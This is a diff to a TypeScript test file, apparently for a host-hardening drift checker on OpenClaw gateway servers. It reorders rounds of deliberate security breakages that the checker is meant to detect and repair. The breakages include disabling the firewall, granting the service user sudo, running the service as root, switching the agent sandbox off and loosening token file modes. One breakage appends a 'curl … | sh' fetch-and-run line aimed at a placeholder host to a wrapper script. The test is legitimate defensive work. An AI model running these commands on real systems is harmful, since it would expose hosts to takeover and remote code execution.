@@ -6,8 +6,7 @@
  * which the test then performs as written), one apply fixes it, the same checks pass and a
  * second plan is empty. Breakages that touch independent things share a round (one apply) to
  * keep the time bounded; every breakage still has its own check ids asserted before and after.
- * The newest OpenClaw runs the whole table; an older one the breakages whose handling depends on
- * the version (roundsFor).
+ * The newest OpenClaw runs the whole table; an older one fewer rounds (roundsFor).
  */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
@@ -87,7 +86,6 @@ export const ROUNDS: Breakage[][] = [
     { name: 'credentials dir 755', ids: ['files.credentials'], break: (ex) => sh(ex, `mkdir -p ${STATE}/credentials && chown ${USER}: ${STATE}/credentials && chmod 755 ${STATE}/credentials`) },
     { name: 'state dir 755', ids: ['files.state-dir'], break: (ex) => sh(ex, `chmod 755 ${STATE}`) },
     { name: 'home 755', ids: ['files.home'], break: (ex) => sh(ex, `chmod 755 ${HOME}`) },
-    { name: 'SOUL.md chmod 644', ids: ['identity.locked'], break: (ex) => sh(ex, `chmod 644 ${SOUL}`) },
     { name: 'service user added to sudo', ids: ['user.service-account'], break: (ex) => sh(ex, `usermod -aG sudo ${USER}`) },
     { name: 'UFW default incoming allow', ids: ['firewall.ufw.incoming'], break: (ex) => sh(ex, 'ufw default allow incoming') },
     { name: 'fail2ban stopped', ids: ['host.fail2ban'], break: (ex) => sh(ex, 'systemctl stop fail2ban') },
@@ -99,45 +97,6 @@ export const ROUNDS: Breakage[][] = [
       // the accept branch of the remediation (the operator installed it): remove the inventory, apply records it
       manual: { says: /`rm (\S+) && clawops apply`/, step: (ex, said) => sh(ex, `rm -f -- ${said[1]}`) },
     },
-  ],
-  [
-    { name: 'openclaw.json replaced by a symlink to a root-owned file', ids: ['files.config'], break: (ex) => sh(ex, `install -m 644 -o root -g root ${CONFIG} /etc/openclaw-elsewhere.json && ln -sf /etc/openclaw-elsewhere.json ${CONFIG}`) },
-    { name: 'token env file 644', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
-    { name: 'unit file: a hardening line removed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
-    { name: 'a hand `ufw allow 18789/tcp`', ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
-    { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
-    { name: 'fail2ban sshd jail disabled in jail.local', ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
-    { name: 'service user added to the docker group', ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
-  ],
-  [
-    { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
-    { name: 'tools.profile full', ids: ['openclaw.config.tools-profile'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
-    { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
-    { name: 'unit file: RestartSec changed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
-    { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
-    { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
-    { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
-  ],
-  [
-    { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
-    { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
-    { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
-    { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
-    { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
-    { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
-    { name: 'token in the env file shortened', ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
-  ],
-  [
-    { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
-    { name: 'controlUi enabled', ids: ['openclaw.config.control-ui'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
-    { name: 'mdns full', ids: ['openclaw.config.mdns'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
-    { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
-    { name: 'terminal enabled', ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
-    { name: 'drop-in removing ProtectSystem', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
-    { name: 'fail2ban jail.local bantime changed', ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
-    { name: 'DOCKER-USER persist unit disabled', ids: ['firewall.docker-user.persisted'], break: (ex) => sh(ex, 'systemctl disable clawops-docker-user.service') },
-  ],
-  [
     { name: 'clawops launcher removed', ids: ['host.clawops-installed'], break: (ex) => sh(ex, 'rm -f /usr/local/bin/clawops') },
     { name: 'a check timer unit edited', ids: ['host.managed-files'], sees: /clawops-backup\.timer/, break: (ex) => sh(ex, "sed -i 's/^OnCalendar=.*/OnCalendar=yearly/' /etc/systemd/system/clawops-backup.timer && systemctl daemon-reload") },
     { name: 'gateway stopped', ids: ['service.active'], break: (ex) => sh(ex, 'systemctl stop openclaw.service') },
@@ -148,6 +107,42 @@ export const ROUNDS: Breakage[][] = [
       // the intended-edit branch of the remediation: delete its baseline line, then apply re-baselines
       manual: { says: /delete its line from (\S+) and run `clawops apply`/, step: (ex, said) => sh(ex, `sed -i '\\#${SOUL}#d' ${said[1]!.replace(/`$/, '')}`) },
     },
+  ],
+  [
+    { name: 'openclaw.json replaced by a symlink to a root-owned file', ids: ['files.config'], break: (ex) => sh(ex, `install -m 644 -o root -g root ${CONFIG} /etc/openclaw-elsewhere.json && ln -sf /etc/openclaw-elsewhere.json ${CONFIG}`) },
+    { name: 'token env file 644', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
+    { name: 'unit file: a hardening line removed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
+    { name: 'a hand `ufw allow 18789/tcp`', ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
+    { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
+    { name: 'fail2ban sshd jail disabled in jail.local', ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
+    { name: 'service user added to the docker group', ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
+    { name: 'SOUL.md chmod 644', ids: ['identity.locked'], break: (ex) => sh(ex, `chmod 644 ${SOUL}`) },
+  ],
+  [
+    { name: 'gateway.bind lan', ids: ['openclaw.config.bind'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway').bind = 'lan'; }) },
+    { name: 'tools.profile full', ids: ['openclaw.config.tools-profile'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').profile = 'full'; }) },
+    { name: 'tools.deny emptied', ids: ['openclaw.config.tools-deny'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools').deny = []; }) },
+    { name: 'unit file: RestartSec changed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i 's/^RestartSec=.*/RestartSec=30/' ${UNIT} && systemctl daemon-reload`) },
+    { name: 'ufw disabled', ids: ['firewall.ufw.active'], break: (ex) => sh(ex, 'ufw --force disable') },
+    { name: '/etc/clawops/clawops.yaml changed', ids: ['host.managed-files'], sees: /clawops\.yaml/, break: (ex) => sh(ex, "sed -i 's/rpoHours: 24/rpoHours: 240/' /etc/clawops/clawops.yaml && grep -q 'rpoHours: 240' /etc/clawops/clawops.yaml") },
+    { name: 'token env file deleted', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `rm -f ${ENV_FILE}`) },
+    { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
+    { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
+    { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
+    { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
+    { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
+    { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
+  ],
+  [
+    { name: 'sandbox network bridge', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox.docker').network = 'bridge'; }) },
+    { name: 'controlUi enabled', ids: ['openclaw.config.control-ui'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.controlUi').enabled = true; }) },
+    { name: 'mdns full', ids: ['openclaw.config.mdns'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'discovery.mdns').mode = 'full'; }) },
+    { name: 'a channel with dmPolicy open', ids: ['openclaw.config.channels'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'channels').telegram = { dmPolicy: 'open', allowFrom: ['*'], groupPolicy: 'disabled', configWrites: false }; }) },
+    { name: 'terminal enabled', ids: ['openclaw.config.terminal'], when: nineX, break: (ex) => editConfig(ex, (c) => { at(c, 'gateway.terminal').enabled = true; }) },
+    { name: 'drop-in removing ProtectSystem', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nProtectSystem=no\\n' > ${DROPIN} && systemctl daemon-reload`) },
+    { name: 'fail2ban jail.local bantime changed', ids: ['host.managed-files'], sees: /jail\.local/, break: (ex) => sh(ex, "sed -i 's/^bantime *=.*/bantime = 1s/' /etc/fail2ban/jail.local && grep -q '^bantime = 1s' /etc/fail2ban/jail.local") },
+    { name: 'DOCKER-USER persist unit disabled', ids: ['firewall.docker-user.persisted'], break: (ex) => sh(ex, 'systemctl disable clawops-docker-user.service') },
+    { name: 'token in the env file shortened', ids: ['openclaw.config.auth'], when: nineX, break: (ex) => sh(ex, `printf 'OPENCLAW_GATEWAY_TOKEN=0123456789abcdef\\n' > ${ENV_FILE}`) },
   ],
   [
     {
@@ -186,15 +181,16 @@ export const ROUNDS: Breakage[][] = [
 ];
 
 /**
- * The rounds a version runs: the newest every breakage; an older one only the versioned ones (the
- * host breakages are the same code on every version), those of the shared rounds in one apply.
+ * The rounds a version runs: the newest every round; an older one the first two rounds (breakages
+ * in every area) whole, the versioned breakages of the other shared rounds joined to the first
+ * (before its own: a hand edit of openclaw.json resets its mode), and the rounds that stand alone.
  */
 export function roundsFor(version: TestbedOpenclawVersion): Breakage[][] {
   const rounds = ROUNDS.map((r) => r.filter((b) => !b.when || b.when(version)));
   if (nineX(version)) return rounds;
-  const shared = rounds.flatMap((r) => r.filter((b) => b.versioned && !b.alone));
-  const alone = rounds.filter((r) => r.some((b) => b.alone)).map((r) => r.filter((b) => b.versioned));
-  return [shared, ...alone].filter((r) => r.length > 0);
+  const [first = [], second = [], ...rest] = rounds.filter((r) => !r.some((b) => b.alone));
+  const versioned = rest.flatMap((r) => r.filter((b) => b.versioned));
+  return [[...versioned, ...first], second, ...rounds.filter((r) => r.some((b) => b.alone))];
 }
 
 export interface DriftTarget {
